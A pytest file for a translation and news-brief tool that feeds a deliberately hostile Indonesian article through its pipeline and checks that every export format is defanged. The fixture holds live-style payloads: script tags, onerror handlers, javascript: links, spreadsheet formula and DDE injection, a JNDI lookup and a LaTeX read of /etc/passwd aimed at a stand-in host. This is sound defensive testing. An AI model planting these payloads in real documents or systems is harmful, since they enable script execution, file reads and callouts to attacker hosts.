"""An article made to do harm to whoever opens its brief: read from a page, and exported in every format."""

import csv
import io
import re
import zipfile

import pypdfium2
import pytest

from dwiwarta.core import export
from dwiwarta.core.pipeline import Pipeline
from dwiwarta.core.translation.dummy import DummyEngine
from dwiwarta.core.types import Brief

TITLE = "Harga &lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=http://jahat.example/x&gt; naik"
PAGE = (
    f"<html><head><title>{TITLE}</title><link rel='canonical' href='javascript:alert(1)'>"
    "<meta name='author' content='=cmd|calc!A0'></head><body><article>"
    f'<h1>{TITLE}</h1><p>=HYPERLINK("http://jahat.example/","klik") kata dia pada hari Senin.</p>'
    "<p>@SUM(1+1) adalah rumus yang tidak boleh dihitung oleh siapa pun di kantor ini.</p>"
    "<p>![gambar](http://jahat.example/a.png) [tautan](javascript:alert) &lt;iframe src=//jahat.example&gt; teks.</p>"
    "<p>\\input{/etc/passwd} ${jndi:ldap://jahat.example/a} {{7*7}} %n%s &amp;lt; ini juga teks biasa saja.</p>"
    "<p>Jumlahnya \u202e021\u202c orang, dan ]]&gt; tidak menutup apa pun di dalam berkas itu.</p>"
    "<img src='http://jahat.example/b.png' onerror='alert(1)'></article></body></html>"
)


@pytest.fixture
def brief():
    pipeline = Pipeline(engine=DummyEngine())
    article = pipeline.translated(pipeline.read_text(PAGE, html=True))
    yield Brief(pipeline.summarised(article))
    pipeline.close()


def written(brief, fmt, folder):
    path = folder / f"brief.{fmt}"
    export.export(brief, fmt, path)
    return path.read_bytes()


def test_the_article_keeps_its_words(brief):
    texts = " ".join(block.text for block in brief.article.document.blocks)
    assert "<script>alert(1)</script>" in texts
    assert "{{7*7}}" in texts
    assert brief.article.document.url == ""


def test_html_runs_and_fetches_nothing(brief, tmp_path):
    page = written(brief, "html", tmp_path).decode()
    assert not re.search(r"<(?:script|img|iframe|object|embed|link|base|form)\b", page)
    assert re.findall(r'\b(?:src|href)="(?!#)([^"]*)"', page) == []
    assert "\u202e" not in page


def test_markdown_has_no_picture_no_link_and_no_markup_of_the_articles(brief, tmp_path):
    text = written(brief, "md", tmp_path).decode()
    assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<(?:script|img|iframe)", text)


def test_docx_refers_to_nothing_outside_and_has_no_fields_of_the_articles(brief, tmp_path):
    with zipfile.ZipFile(io.BytesIO(written(brief, "docx", tmp_path))) as archive:
        parts = {name: archive.read(name).decode("utf-8", errors="replace") for name in archive.namelist()}
    assert not [name for name in parts if "vba" in name.lower() or "embed" in name.lower()]
    relations = "".join(text for name, text in parts.items() if name.endswith(".rels"))
    assert 'TargetMode="External"' not in relations
    assert not re.search(r"instrText[^<]*>[^<]*(?:HYPERLINK|INCLUDE|DDE|jahat)", parts["word/document.xml"])


def test_pdf_has_no_action_and_no_link(brief, tmp_path):
    data = written(brief, "pdf", tmp_path)
    assert not re.search(rb"/JavaScript|/JS\b|/Launch|/SubmitForm|/URI\b|/EmbeddedFile", data)
    document = pypdfium2.PdfDocument(data)
    try:
        page = document[0]
        layer = page.get_textpage()
        assert "script" in layer.get_text_range()
        layer.close()
        page.close()
    finally:
        document.close()


def test_no_cell_of_the_table_is_a_formula(brief, tmp_path):
    rows = list(csv.reader(io.StringIO(written(brief, "csv", tmp_path).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    suspects = [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t"))]
    assert all(re.fullmatch(r"-?\d+\.\d+", cell) for cell in suspects)  # scores are numbers


@pytest.mark.parametrize("fmt", ["tmx", "xliff"])
def test_translation_files_declare_nothing_and_escape_all(brief, tmp_path, fmt):
    text = written(brief, fmt, tmp_path).decode()
    assert "<!ENTITY" not in text
    assert "<script" not in text
    assert "]]>" not in text


def test_the_files_of_a_brief_stay_in_their_folder(brief, tmp_path):
    folder = tmp_path / "keluar"
    pipeline = Pipeline(engine=DummyEngine())
    made = pipeline.export(brief, ("md", "csv"), folder)
    pipeline.close()
    assert all(path.parent == folder for path in made)
    assert sorted(folder.iterdir()) == sorted(made)
